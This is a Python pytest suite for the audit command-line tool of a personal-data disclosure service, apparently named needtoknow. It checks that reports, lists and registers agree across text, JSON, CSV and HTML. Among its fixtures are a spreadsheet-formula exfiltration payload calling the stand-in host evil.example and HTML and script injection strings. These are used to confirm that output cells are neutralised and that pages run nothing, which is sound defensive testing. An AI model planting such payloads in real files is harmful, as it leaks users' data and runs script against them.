"""What auditors and clients see from the command line: lists, reports, exposures, the register; text, JSON, CSV, pages."""

import json
import shlex
import signal
import stat
import time
from types import SimpleNamespace

import pytest

from needtoknow_testing import company, ledger, protos
from needtoknow_testing.cli import Cli, as_json
from needtoknow_testing.page import Page
from needtoknow_testing.waiting import until
from needtoknow_testing.world import World

audit, delivery = protos.audit, protos.delivery
DELETED, RETAINED = delivery.DELETION_OUTCOME_DELETED, delivery.DELETION_OUTCOME_RETAINED
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Ménage")'
MARKUP = '@La Main verte & <b onclick="x()">fils</b>'
LAW = "+1 Code de commerce L123-22 <script>alert('x')</script>"
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOUR = 3600


def confirm(party, disclosure_id, outcome=DELETED, ground="", days=0):
    item = delivery.DeletionItem(disclosure_id=disclosure_id, outcome=outcome, ground=ground)
    if days:
        item.until.CopyFrom(protos.timestamp(round(time.time()) + days * 24 * HOUR))
    assert party.client.delivery.ConfirmDeletion(delivery.ConfirmDeletionRequest(items=[item]), timeout=10).confirmed == 1


@pytest.fixture(scope="module")
def story(shared_world):
    """A client's door code is deleted by one, kept by another, not confirmed by a third, held by a fourth; staff called back."""
    world = shared_world
    person, other = world.person(), world.person()
    keeps, deletes, silent, holds = (world.recipient(display_name=name) for name in (MARKUP, FORMULA, "Sans réponse", "En cours SARL"))
    desk = world.recipient(services=["customer-desk"], staff=True, display_name="Jeanne Dupont du service client")
    ended = {party.recipient_id: world.share(person, party, starts_in=0, lasts=3) for party in (keeps, deletes, silent)}
    running = world.share(person, holds, starts_in=-60, lasts=HOUR)
    planned = world.share(company.another_booking(world.sandbox, person), holds, "home-cleaning", starts_in=48 * HOUR)
    call = world.share(person, desk, "customer-desk")
    world.share(other, holds)
    for party in (keeps, deletes, silent, holds, desk):
        party.acknowledge(*party.drain())
    for party in (keeps, deletes, silent):
        with party.receive() as stream:
            stream.withdrawal(ended[party.recipient_id].disclosure_id, timeout=30)
    confirm(deletes, ended[deletes.recipient_id].disclosure_id)
    confirm(keeps, ended[keeps.recipient_id].disclosure_id, RETAINED, LAW, days=3650)
    company.exercise(world.sandbox, person.subject_id, "objected", "dpv:DirectMarketing")
    return SimpleNamespace(person=person, other=other, keeps=keeps, deletes=deletes, silent=silent, holds=holds, desk=desk,
                           disclosures=[*ended.values(), running, planned, call], running=running, planned=planned)


def report_of(world, subject_id):
    return world.auditor.audit.GetSubjectReport(audit.GetSubjectReportRequest(subject_id=subject_id), timeout=20)


def indices_of(report):
    """Of all that the report rests on."""
    for recipient in report.recipients:
        for disclosure in recipient.disclosures:
            yield disclosure.shared_index
            yield from (sent.ledger_index for release in disclosure.releases for sent in release.deliveries)
            yield from (deletion.ledger_index for deletion in disclosure.deletions)


# audit list.

def test_p9_a_list_is_the_same_in_each_format(world, story):
    cli = Cli(world.sandbox)
    request = audit.ListEntriesRequest(filter=audit.EntryFilter(subject_id=story.person.subject_id, kinds=[1, 3, 9, 10]), page_size=1000)
    entries = world.auditor.audit.ListEntries(request, timeout=20).entries
    kinds = "SHARED,DELIVERED,WITHDRAWN,DELETION_CONFIRMED"
    ask = ("audit", "list", "--subject", story.person.subject_id, "--kinds", kinds, "--limit", "0")
    objects = cli.lines(*ask)
    assert objects == [as_json(entry) for entry in entries] and len(objects) > 10
    assert [json.loads(line) for line in cli.text(*ask, "--json").splitlines()] == objects
    rows = cli.table(*ask)
    assert [row["index"] for row in rows] == [str(entry.index) for entry in entries]
    for row, each in zip(rows, objects):
        entry = each["entry"]
        for name in ("recorded_at", "kind", "actor", "recipient_id", "service", "purpose", "legal_basis", "disclosure_id", "release",
                     "subject_pseudonym", "values_commitment", "policy_digest"):
            assert row[name] == (entry[name] or ""), name
        assert row["fields"] == " ".join(entry["fields"]) and row["leaf_hash"] == each["leaf_hash"]
    text = cli.text(*ask).splitlines()
    assert text[0].split()[:3] == ["INDEX", "RECORDED", "KIND"] and len(text) == len(entries) + 1
    assert [line.split()[0] for line in text[1:]] == [row["index"] for row in rows]


def test_a_list_from_an_index_goes_on_there(world, story):
    cli = Cli(world.sandbox)
    size = ledger.size(world.sandbox)
    found = cli.lines("audit", "list", "--from-index", str(size - 5), "--limit", "3")
    assert [entry["index"] for entry in found] == [size - 5, size - 4, size - 3]
    everything = cli.lines("audit", "list", "--from-index", "0", "--limit", "0")
    assert [entry["index"] for entry in everything] == list(range(len(everything))) and len(everything) > size


def test_a_follower_with_a_limit_ends_by_itself(world, story):
    cli = Cli(world.sandbox)
    size = ledger.size(world.sandbox)
    found = cli.lines("audit", "list", "--from-index", str(size - 2), "--follow", "--limit", "2")
    assert [entry["index"] for entry in found] == [size - 2, size - 1]
    person, recipient = world.person(), world.recipient()
    following = cli.follow("audit", "list", "--recipient", recipient.recipient_id, "--kinds", "SHARED", "--follow", "--limit", "1", "--json")
    world.share(person, recipient)
    assert following.process.wait(30) == 0
    assert following.end() == (0, "") and len(following.lines) == 1


def test_p9_who_follows_sees_each_entry_once_as_it_is_recorded(world, story):
    cli = Cli(world.sandbox)
    person, recipient = world.person(), world.recipient()
    first = ledger.size(world.sandbox)
    following = cli.follow("audit", "list", "--recipient", recipient.recipient_id, "--from-index", str(first), "--follow", "--json")
    try:
        shared = [world.share(person, recipient).disclosure_id for _ in range(3)]
        until(lambda: len(following.lines) >= 3, 20, "three entries")
    finally:
        code, said = following.end()
    assert (code, said) == (0, "")
    seen = [line["entry"]["disclosure_id"] for line in following.lines if line["entry"]["kind"] == "SHARED"]
    assert seen == shared


def test_a_follower_outlives_a_restart_of_the_service():
    world = World.up()
    try:
        cli = Cli(world.sandbox)
        person, recipient = world.person(), world.recipient()
        following = cli.follow("audit", "list", "--kinds", "SHARED", "--follow", "--format", "json")
        try:
            world.share(person, recipient)
            until(lambda: len(following.lines) == 1, 20, "the first entry")
            world.sandbox.restart()
            world.wait_sharing(person, recipient)
            until(lambda: len(following.lines) == 2, 40, "the entry after the restart")
        finally:
            code, said = following.end(signal.SIGTERM)
        assert code == 0 and "again in" in said
        indices = [line["index"] for line in following.lines]
        assert indices == sorted(set(indices))
    finally:
        world.down()


# audit report.

def test_p9_a_report_is_the_same_in_each_format(world, story):
    cli = Cli(world.sandbox)
    report = report_of(world, story.person.subject_id)
    (told,) = cli.lines("audit", "report", story.person.subject_id)
    expected = as_json(report)
    expected["made_at"] = told["made_at"]
    assert told == expected
    rows = cli.table("audit", "report", story.person.subject_id)
    assert sorted(int(row["ledger_index"]) for row in rows if row["ledger_index"]) == sorted(indices_of(report))
    assert {row["disclosure_id"] for row in rows if row["record"] == "DISCLOSURE"} == {each.disclosure_id for each in story.disclosures}
    assert [(row["cause"], row["purpose"]) for row in rows if row["record"] == "RIGHT"] == [("OBJECTION", "dpv:DirectMarketing")]
    text = cli.text("audit", "report", story.person.subject_id)
    for index in indices_of(report):
        assert f"entry {index}" in text
    for each in story.disclosures:
        assert each.disclosure_id in text


def test_no_cell_is_a_formula(world, story):
    cli = Cli(world.sandbox)
    tables = [cli.table("audit", "report", story.person.subject_id), cli.table("audit", "register"), cli.table("audit", "overdue"),
              cli.table("audit", "list", "--subject", story.person.subject_id)]
    tables += [cli.table("audit", "exposure", party.recipient_id) for party in (story.keeps, story.deletes)]
    cells = [cell for rows in tables for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(STARTS)]
    assert not [cell for cell in cells if set(cell) & set("\t\r\n\0")]
    for hostile in (FORMULA, MARKUP, LAW):
        assert "'" + hostile in cells, "the text itself is there, behind a quote"


def page_of(world, story, language, *arguments, **environment):
    cli = Cli(world.sandbox, **environment)
    source = cli.text("audit", "report", story.person.subject_id, "--format", "html", "--language", language, *arguments)
    return source, Page(source)


def glance(page, label):
    """What the page says at a glance of a field: (who and for what, yes or no, the sentence, its times), a row each."""
    rows = [row for row in page.grid(0) if row[0]["text"] == label]
    assert rows, f"{label} is not on the page"
    return [(row[1]["text"], row[2]["text"], row[3]["text"], row[3]["times"]) for row in rows]


WORDS = {
    "fr": SimpleNamespace(
        door="code d'entrée", phone="numéro de téléphone", staff="Notre propre personnel", yes="Oui", by_law="Oui, selon la loi",
        deleted="Non, supprimée", late="Suppression non confirmée", not_yet="Pas encore", article="article 6, paragraphe 1, point b",
        why="pour fournir le service que vous avez réservé", objected="article 21", backups="35 jours"),
    "en": SimpleNamespace(
        door="door code", phone="phone number", staff="Our own staff", yes="Yes", by_law="Yes, by law", deleted="No, deleted",
        late="Deletion not confirmed", not_yet="Not yet", article="Article 6(1)(b)", why="to provide the service that you booked",
        objected="Article 21", backups="35 days"),
}


@pytest.mark.parametrize("language", ["fr", "en"])
def test_p9_a_page_tells_at_a_glance_who_has_my_door_code_until_when(world, story, language):
    _, page = page_of(world, story, language)
    words = WORDS[language]
    assert page.language == language
    between = {"fr": "\xa0: ", "en": ": "}[language]
    rows = {who.removesuffix(f"{between}Tout de suite"): (today, times) for who, today, _, times in glance(page, words.door)}
    expires = story.running.expires_at.ToDatetime().strftime("%Y-%m-%dT%H:%M:%SZ")
    assert rows["En cours SARL"] == (words.yes, [expires])
    assert rows[MARKUP][0] == words.by_law
    assert rows[FORMULA][0] == words.deleted
    assert rows["Sans réponse"][0] == words.late
    ((who, today, _, times),) = [row for row in glance(page, words.door) if "Ménage à domicile" in row[0]]
    assert today == words.not_yet and who.startswith("En cours SARL")
    (entry,) = [release for release in story.planned.releases if release.name == "entry"]
    assert times == [entry.due_at.ToDatetime().strftime("%Y-%m-%dT%H:%M:%SZ")]
    ((who, today, _, _),) = glance(page, words.phone)
    assert who.startswith(words.staff) and today == words.yes


@pytest.mark.parametrize("language", ["fr", "en"])
def test_p9_a_page_names_every_sending_and_the_law(world, story, language):
    _, page = page_of(world, story, language)
    words = WORDS[language]
    lines = [int(row[0]["text"]) for row in page.grid(-1)]
    assert lines == sorted(set(indices_of(report_of(world, story.person.subject_id))))
    for said in (MARKUP, FORMULA, LAW, "En cours SARL", "Tout de suite", "Ménage à domicile", "Réponse à une demande du client",
                 "Maison Claire SAS", "dpo@maison-claire.example", words.article, words.why, words.objected, words.backups, "CNIL"):
        assert said in page.text.replace("\xa0", " "), said
    assert all(len(table["rows"]) > 1 for table in page.tables)


@pytest.mark.parametrize("language", ["fr", "en"])
def test_p9_a_page_names_no_other_person_and_speaks_no_jargon(world, story, language):
    source, page = page_of(world, story, language)
    others = [story.other.subject_id, story.other.booking_id, story.desk.recipient_id, "Jeanne Dupont",
              *(party.recipient_id for party in (story.keeps, story.deletes, story.silent, story.holds)),
              *story.other.sentinels()]
    ours = [*(each.disclosure_id for each in story.disclosures), story.person.booking_id, *story.person.sentinels(),
            "client.", "booking.", "dpv:", "spiffe:", "PROVIDER", "RETAINED", "at-once", "home-cleaning", "customer-desk"]
    for word in others + ours:
        assert word not in source, word
    for word in ("disclosure", "recipient", "release", "ledger", "pseudonym", "None", "NULL", "{1}"):
        assert word not in page.text, word


def test_a_page_loads_nothing_and_runs_nothing(world, story):
    for language in WORDS:
        source, _ = page_of(world, story, language)  # the parser refuses scripts, links, pictures and event handlers
        assert "default-src 'none'" in source
        assert "://" not in source.replace("http://evil.example", "")


def test_the_locale_chooses_the_language_and_the_clock(world, story):
    ask = ("audit", "report", story.person.subject_id, "--format", "html")
    assert Page(Cli(world.sandbox).text(*ask)).language == "fr"
    assert Page(Cli(world.sandbox, LANG="en_GB.UTF-8").text(*ask)).language == "en"
    assert Page(Cli(world.sandbox, LANG="en_GB.UTF-8", LC_ALL="fr_FR.UTF-8").text(*ask)).language == "fr"
    assert "(CET)" in Page(Cli(world.sandbox, TZ="CET-1").text(*ask)).text


def test_p5_what_a_page_says_to_run_verifies_a_sending_offline(world, story, tmp_path):
    vkey = world.sandbox.vkey
    _, page = page_of(world, story, "en", "--vkey", vkey)
    assert vkey in page.text
    command = shlex.split(page.commands[-1])
    index = page.grid(-1)[0][0]["text"]
    cli = Cli(world.sandbox)
    size = int(index) + 1
    until(lambda: world.auditor.audit.GetCheckpoint(audit.GetCheckpointRequest(), timeout=10).size >= size, 20, "a checkpoint")
    cli.run("audit", "prove", index, "--vkey", vkey, cwd=tmp_path)
    offline = Cli(world.sandbox, NEEDTOKNOW_ADDRESS="127.0.0.1:1")
    assert command[0] == "needtoknow"
    offline.run(*command[1:], cwd=tmp_path)
    (tmp_path / f"{index}.entry").write_bytes(b"another")
    offline.run(*command[1:], cwd=tmp_path, code=1)


def test_a_report_in_a_file_is_the_callers_alone(world, story, tmp_path):
    cli = Cli(world.sandbox)
    path = tmp_path / "page.html"
    ask = ("audit", "report", story.person.subject_id, "--format", "html", "--out")
    path.write_text("older")
    path.chmod(0o644)
    assert cli.run(*ask, path).stdout == b""
    assert Page(path.read_text()) and stat.S_IMODE(path.stat().st_mode) == 0o600
    link = tmp_path / "link"
    link.symlink_to(path)
    assert b"no regular file" in cli.run(*ask, link, code=1).stderr
    assert b"No such file" in cli.run(*ask, tmp_path / "none" / "page.html", code=1).stderr
    assert sorted(each.name for each in tmp_path.iterdir()) == ["link", "page.html"]


# audit exposure, register, overdue.

def test_p9_an_exposure_is_the_same_in_each_format(world, story):
    cli = Cli(world.sandbox)
    answer = world.auditor.audit.GetExposure(audit.GetExposureRequest(recipient_id=story.keeps.recipient_id), timeout=20)
    ask = ("audit", "exposure", story.keeps.recipient_id)
    assert cli.lines(*ask) == [as_json(each) for each in answer.disclosures]
    (row,) = cli.table(*ask)
    assert row["subject_id"] == story.person.subject_id and row["retained_ground"] == "'" + LAW
    assert row["fields"].split() == ["client.district", "client.home_address", "client.door_code", "booking.tasks"]
    assert story.person.subject_id in cli.text(*ask)
    (held,) = [row for row in cli.table("audit", "exposure", story.deletes.recipient_id)]
    assert held["held_until"] > held["held_from"] and not held["retained_ground"]
    assert cli.table(*ask, "--until", "-1d") == []
    assert cli.table(*ask, "--device", "no-such-device") == []


def test_p9_the_register_is_the_same_in_each_format(world, story):
    cli = Cli(world.sandbox)
    answer = world.auditor.audit.GetRegister(audit.GetRegisterRequest(), timeout=20)
    assert cli.lines("audit", "register") == [as_json(answer)]
    rows = cli.table("audit", "register")
    assert {row["service"] for row in rows if row["service"]} == {each.service for each in answer.processings}
    text = cli.text("audit", "register")
    for each in answer.processings:
        assert each.service in text and each.purpose in text


def test_p9_overdue_deletions_are_the_same_in_each_format(world, story):
    """Nobody is late yet in this world, or others' tests made them so: whatever there is, each format tells it."""
    cli = Cli(world.sandbox)
    world.sandbox.query("UPDATE needtoknow.withdrawal SET delete_by = recorded_at + interval '1 millisecond' "
                        "WHERE disclosure_id = %s", next(
                            each.disclosure_id for each in story.disclosures if each.recipient_id == story.silent.recipient_id))
    answer = world.auditor.audit.ListOverdueDeletions(audit.ListOverdueDeletionsRequest(page_size=1000), timeout=20)
    mine = [each for each in answer.deletions if each.recipient_id == story.silent.recipient_id]
    assert len(mine) == 1
    assert cli.lines("audit", "overdue") == [as_json(each) for each in answer.deletions]
    assert [row["ledger_index"] for row in cli.table("audit", "overdue")] == [str(each.ledger_index) for each in answer.deletions]
    assert story.silent.recipient_id in cli.text("audit", "overdue")


# Whatever the format.

def test_text_without_a_terminal_is_plain_and_the_same_each_time(world, story):
    cli = Cli(world.sandbox)
    for ask in (("audit", "list", "--recipient", story.keeps.recipient_id), ("audit", "exposure", story.keeps.recipient_id),
                ("audit", "register")):
        first, second = cli.run(*ask).stdout, cli.run(*ask).stdout
        # The first question is itself an entry about the recipient, which the second one lists.
        assert second.startswith(first) or ask[1] == "list" and second.splitlines()[1].split() == first.splitlines()[1].split()
        assert b"\033" not in first


@pytest.mark.parametrize("arguments, code, says", [
    (["report", "C-nobody"], 1, "is this their client number?"),
    (["exposure", "r-nobody"], 1, "recipient list"),
    (["report", "C1", "--format", "xml"], 2, "none of text, json, csv and html"),
    (["list", "--format", "html"], 2, "none of text, json and csv"),
    (["list", "--format", "jsno"], 2, "did you mean `json`?"),
    (["list", "--json", "--format", "csv"], 2, "contradict"),
    (["list", "--newest-first", "--follow"], 2, "contradict"),
    (["list", "--from-index", "-1"], 2, "is not the index of an entry"),
    (["report", "C1", "--language", "fr"], 2, "add --format html"),
    (["report", "C1", "--format", "html", "--language", "de"], 2, "neither fr nor en"),
    (["report", "C1", "--format", "html", "--vkey", "nonsense"], 2, "neither a verifier key nor a file"),
    (["report"], 2, "SUBJECT_ID is missing"),
])
def test_what_is_wrong_is_said_with_what_to_do(world, arguments, code, says):
    done = Cli(world.sandbox).run("audit", *arguments, code=code)
    assert says in done.stderr.decode() and done.stdout == b""


def test_p7_nobody_but_an_auditor_may_ask(world):
    for arguments in (["report", "C1"], ["exposure", "sparkle"], ["register"], ["overdue"], ["list"], ["list", "--follow"]):
        done = Cli(world.sandbox, "booking").run("audit", *arguments, code=5)
        assert b"ROLE_NOT_ALLOWED" in done.stderr and done.stdout == b""
